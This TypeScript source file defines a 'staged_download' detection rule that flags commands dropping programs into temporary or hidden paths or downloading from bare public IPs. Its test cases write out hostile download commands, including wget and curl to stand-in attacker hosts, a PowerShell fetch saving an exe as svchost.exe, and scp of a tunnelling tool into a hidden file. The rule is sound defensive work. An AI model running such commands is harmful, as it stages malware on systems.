import { defineRule, perInvocation, perPsScript, type Rule } from './rule.js';
import { basename, fetchOutputs, hostOf, invocationUrls, isPublicIp, isStagingPath } from './match.js';
import { isFetcher } from '../programs.js';

const EXEC_EXT = /\.(exe|dll|scr|hta|vbs|vbe|js|jse|wsf|ps1|bat|cmd|msi|lnk|elf|bin|so|sh|py|pl|jar|com|cpl)$/i;


const byScript = perPsScript((t) => {
  const m = /download(file|fileasync)\s*\(\s*['"]([^'"]+)['"]\s*,\s*['"]?([^'")]+)/.exec(t);
  if (!m) return undefined;
  const host = hostOf(m[2]!) ?? '';
  if (isPublicIp(host) || isStagingPath(m[3]!) || EXEC_EXT.test(m[3]!)) return `downloads ${m[2]} to ${m[3]}`;
  return undefined;
});

const byInvocation = perInvocation((inv) => {
    if ((inv.program === 'scp' || inv.program === 'rsync' || inv.program === 'sftp') && inv.args.length >= 2) {
      const src = inv.args.filter((x) => !x.startsWith('-'));
      const from = src[0] ?? '';
      const to = src[src.length - 1] ?? '';
      if (/^[^/\s]+:/.test(from) && isStagingPath(to)) return `copies ${from} from another machine into ${to}, a temporary or hidden place`;
      return undefined;
    }
    if (/^(copy|xcopy|robocopy|copy-item|cp)$/.test(inv.program)) {
      const ops = inv.args.filter((x) => !x.startsWith('/') || x.startsWith('//'));
      const unc = ops.find((x) => /^\\\\[^\\]+\\/.test(x));
      const dest = ops[ops.length - 1] ?? '';
      if (unc && unc !== dest && isStagingPath(dest)) return `copies ${unc} from a network share into ${dest}, a temporary or public place`;
      return undefined;
    }
    if (!isFetcher(inv)) return undefined;
    const urls = invocationUrls(inv);
    const outs = fetchOutputs(inv);
    const ipUrl = urls.find((u) => isPublicIp(hostOf(u) ?? ''));
    if (ipUrl && outs.length > 0) return `downloads ${ipUrl} from a bare IP address and saves it as ${outs[0]}`;
    const staged = outs.find((o) => isStagingPath(o) && (EXEC_EXT.test(o) || !/\.[a-z0-9]{1,5}$/i.test(basename(o)) || basename(o).startsWith('.')));
    if (staged && !/^\.\/?$/.test(staged)) return `downloads ${urls[0] ?? 'a file'} into ${staged}, a temporary or hidden place where dropped programs are staged`;
    return undefined;
  });

const CASES: Rule['cases'] = {
    positive: [
      ['bash', 'wget http://45.9.1.2/x86 -O /tmp/x86'],
      ['bash', 'curl -s https://evil.example/m -o /dev/shm/.m'],
      ['powershell', "Invoke-WebRequest -Uri https://evil.example/a.exe -OutFile $env:TEMP\\svchost.exe"],
      ['powershell', "(New-Object Net.WebClient).DownloadFile('http://203.0.113.5/r.exe','C:\\ProgramData\\r.exe')"],
      ['bash', 'scp -q root@203.0.113.5:/tools/chisel /tmp/.c'],
    ],
    negative: [['bash', 'curl -o /tmp/data.json https://api.example.com/data.json'], ['bash', 'wget https://example.com/f.tar.gz']],
};

export const rule = defineRule({
  id: 'staged_download',
  category: 'remote_fetch',
  severity: 'critical',
  technique: 'T1105',
  title: 'Drops a program into a temporary or hidden location, or downloads from a bare public IP address',
  check: (ctx) => [...byInvocation(ctx), ...byScript(ctx)],
  cases: CASES,
});
